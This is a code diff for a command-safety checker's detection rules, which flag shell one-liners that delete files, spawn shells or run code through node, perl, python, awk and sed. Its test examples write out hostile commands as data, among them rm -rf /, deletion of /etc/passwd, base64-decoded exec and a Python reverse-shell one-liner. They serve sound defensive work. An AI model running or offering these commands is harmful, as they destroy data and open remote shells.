@@ -6,6 +6,7 @@ import re
 from typing import TYPE_CHECKING
 
 from ..commands import UNKNOWN
+from ..words import unescape_ansi_c
 from .table import rule
 
 if TYPE_CHECKING:
@@ -32,11 +33,20 @@ _DELETES = {
 @rule(
     "code-deletes",
     "deletes files from within a program",
-    dangerous=("node -e \"require('fs').rmSync('x',{recursive:true})\"", "perl -e 'unlink glob \"*\"'", "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"x\")'", "php -r 'unlink(\"x\");'", "lua -e 'os.remove(\"x\")'", "Rscript -e 'unlink(\"x\", recursive=TRUE)'",
-               "echo \"require('fs').rmSync('/',{recursive:true})\" | node", "perl -MFile::Path -e 'rmtree(\"/x\")'", "node --eval 'fs.unlinkSync(\"a\")'"),
-    benign=("node -e 'console.log(1)'", "perl -ne 'print if /rm/'", "ruby -e 'puts 1'", "php -r 'echo 1;'", "perl -pe s/a/b/ x"),
+    everywhere=True,
+    dangerous=(
+        "node -e \"require('fs').rmSync('x',{recursive:true})\"", "perl -e 'unlink glob \"*\"'",
+        "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"x\")'", "php -r 'unlink(\"x\");'",
+        "lua -e 'os.remove(\"x\")'", "Rscript -e 'unlink(\"x\", recursive=TRUE)'",
+        "echo \"require('fs').rmSync('/',{recursive:true})\" | node",
+        "perl -MFile::Path -e 'rmtree(\"/x\")'", "node --eval 'fs.unlinkSync(\"a\")'",
+    ),
+    benign=(
+        "node -e 'console.log(1)'", "perl -ne 'print if /rm/'", "ruby -e 'puts 1'", "php -r 'echo 1;'",
+        "perl -pe s/a/b/ x",
+    ),
 )  # fmt: skip
-def deletes_from_code(command: Command) -> bool:
+def _deletes_from_code(command: Command) -> bool:
     code = command.code
     if not code or not code.stream.text:
         return False
@@ -46,7 +56,7 @@ def deletes_from_code(command: Command) -> bool:
 
 _RUNS = {
     "javascript": re.compile(r"child_process|\bexecSync\b|Deno\.(?:run|Command)|Bun\.spawn|\beval\s*\(|new\s+Function\s*\(|process\.binding"),
-    "perl": re.compile(r"\b(?:system|exec)\b|`|\bqx\b|\beval\s*[\"'$]|open\s*\(?[^;]*\|"),
+    "perl": re.compile(r"\b(?:system|exec)\b|`|\bqx\b|\beval\b(?!\s*\{)|open\s*\(?[^;]*\|"),
     "ruby": re.compile(r"\bsystem\b|\bexec\b|`|%x|IO\.popen|Open3|\beval\b|Kernel\.|\bspawn\b"),
     "php": re.compile(r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|pcntl_exec)\s*\(|`"),
     "lua": re.compile(r"\bos\.execute\b|\bio\.popen\b|\bload(?:string)?\s*\("),
@@ -69,19 +79,30 @@ _LITERAL = re.compile(
 def literal_commands(text: str) -> list[str] | None:
     """The shell commands a one-liner hands to the system, or None if they are not all spelt out."""
     found = [match[2] or match[3] or match[4] or "" for match in _LITERAL.finditer(text)]
-    if not found or any(re.search(r"[$#]\{|\$\w|'\s*\.|\"\s*\.|\"\s*\+", command) for command in found):
+    if not found or re.search(r"\b(?:system|exec)\s*\(\s*(?:\"[^\"]*\"|'[^']*')\s*[^\s,)]", text):
         return None
-    return [command.replace("\\\"", "\"").replace("\\'", "'") for command in found]
+    if any(re.search(r"[$#]\{|\$\w|'\s*\.|\"\s*\.|\"\s*\+", command) for command in found):
+        return None
+    return [unescape_ansi_c(command) for command in found]
 
 
 @rule(
     "code-runs-commands",
     "runs other programs from within a program",
-    dangerous=("perl -e 'system(\"rm -rf /\")'", "ruby -e '`rm -rf x`'", "node -e \"require('child_process').execSync('rm -rf /')\"", "awk 'BEGIN{system(\"rm -rf /\")}'", "php -r 'system($_GET[0]);'", "perl -e 'exec \"/bin/sh\"'", "lua -e 'os.execute(\"rm -rf x\")'",
-               "node -e 'eval(atob(\"eA==\"))'", "awk 'BEGIN {system(\"/bin/sh\")}'", "ruby -e 'exec \"/bin/sh\"'"),
-    benign=("awk '{print $1}' x", "awk '{print $1 | \"sort\"}' x", "perl -e 'print 1'", "node -e \"console.log(require('child_process').execSync('git status').toString())\"", "node -e 'console.log(/a/.exec(\"b\"))'", "awk 'BEGIN{system(\"date\")}'"),
+    everywhere=True,
+    dangerous=(
+        "perl -e 'system(\"rm -rf /\")'", "ruby -e '`rm -rf x`'",
+        "node -e \"require('child_process').execSync('rm -rf /')\"", "awk 'BEGIN{system(\"rm -rf /\")}'",
+        "php -r 'system($_GET[0]);'", "perl -e 'exec \"/bin/sh\"'", "lua -e 'os.execute(\"rm -rf x\")'",
+        "node -e 'eval(atob(\"eA==\"))'", "awk 'BEGIN {system(\"/bin/sh\")}'", "ruby -e 'exec \"/bin/sh\"'",
+    ),
+    benign=(
+        "awk '{print $1}' x", "awk '{print $1 | \"sort\"}' x", "perl -e 'print 1'",
+        "node -e \"console.log(require('child_process').execSync('git status').toString())\"",
+        "node -e 'console.log(/a/.exec(\"b\"))'", "awk 'BEGIN{system(\"date\")}'",
+    ),
 )  # fmt: skip
-def runs_commands_from_code(command: Command) -> bool:
+def _runs_commands_from_code(command: Command) -> bool:
     code = command.code
     if not code or not code.stream.text or code.language not in _RUNS:
         return False
@@ -93,19 +114,33 @@ def runs_commands_from_code(command: Command) -> bool:
     commands = literal_commands(text)
     if commands is None:
         return True
-    interactive = any(re.fullmatch(r"(?:/\w+)*/?(?:ba|z|da|k)?sh(?:\s+-\w+)?", one.strip()) for one in commands)
+    interactive = any(
+        re.fullmatch(r"(?:/\w+)*/?(?:ba|z|da|k)?sh(?:\s+-\w+)?", one.strip()) for one in commands
+    )
     return interactive or any(assess(one, cwd=command.cwd).findings for one in commands)
 
 
 @rule(
     "python-code",
     "runs dangerous Python code",
-    dangerous=("python -c \"import shutil; shutil.rmtree('/x')\"", "python3 -c 'import os; os.system(\"rm -rf /\")'", "python3 - <<EOF\nimport shutil\nshutil.rmtree('x')\nEOF", "python -c 'exec(__import__(\"base64\").b64decode(\"eA==\"))'",
-               "echo \"import os; os.remove('/etc/passwd')\" | python3", "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);subprocess.call([\"sh\"])'",
-               "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'"),
-    benign=("python -c 'print(1)'", "python3 -c 'import json; print(json.dumps({}))'", "python3 - <<EOF\nprint(2)\nEOF", "python3 -m venv .venv", "python script.py", "python3 -c \"print('$X')\""),
+    everywhere=True,
+    dangerous=(
+        "python -c \"import shutil; shutil.rmtree('/x')\"",
+        "python3 -c 'import os; os.system(\"rm -rf /\")'",
+        "python3 - <<EOF\nimport shutil\nshutil.rmtree('x')\nEOF",
+        "python -c 'exec(__import__(\"base64\").b64decode(\"eA==\"))'",
+        "echo \"import os; os.remove('/etc/passwd')\" | python3",
+        'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("h",1));os.'
+        'dup2(s.fileno(),0);subprocess.call(["sh"])\'',
+        "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
+    ),
+    benign=(
+        "python -c 'print(1)'", "python3 -c 'import json; print(json.dumps({}))'",
+        "python3 - <<EOF\nprint(2)\nEOF", "python3 -m venv .venv", "python script.py",
+        "python3 -c \"print('$X')\"",
+    ),
 )  # fmt: skip
-def runs_dangerous_python(command: Command) -> bool:
+def _runs_dangerous_python(command: Command) -> bool:
     code = command.code
     if not code or code.language != "python" or not code.stream.text or code.stream.text.strip() == UNKNOWN:
         return False
@@ -119,16 +154,22 @@ def runs_dangerous_python(command: Command) -> bool:
     "lets sed run its input as commands",
     programs="sed gsed",
     dangerous=("sed '1e rm -rf x' f", "sed 's/a/b/e' f", "echo id | sed 's/^//e'"),
-    benign=("sed 's/a/b/' f", "sed -e 's/x/y/g' f", "sed -n '1,5p' f", "sed 's/the/there/' f", "sed -i 's|a/b|c/e|' f"),
-)
-def sed_executes(command: Command) -> bool:
+    benign=(
+        "sed 's/a/b/' f", "sed -e 's/x/y/g' f", "sed -n '1,5p' f", "sed 's/the/there/' f",
+        "sed -i 's|a/b|c/e|' f",
+    ),
+)  # fmt: skip
+def _sed_executes(command: Command) -> bool:
     for word in command.arguments:
         if re.match(r"(?:\d+|\$|/[^/]*/)?\s*e(?:\s+\S|\Z)", word.text) and " " in word.text:
             return True
         match = re.match(r"[\d,$]*s(\W)", word.text)
         if match:
             delimiter = re.escape(match[1])
-            flags = re.match(rf"[\d,$]*s{delimiter}(?:\\.|(?!{delimiter}).)*{delimiter}(?:\\.|(?!{delimiter}).)*{delimiter}([gpiImM\d]*e[gpiImM\d]*)\Z", word.text)
+            flags = re.match(
+                rf"[\d,$]*s{delimiter}(?:\\.|(?!{delimiter}).)*{delimiter}(?:\\.|(?!{delimiter}).)*{delimiter}([gpiImM\d]*e[gpiImM\d]*)\Z",
+                word.text,
+            )
             if flags:
                 return True
     return False
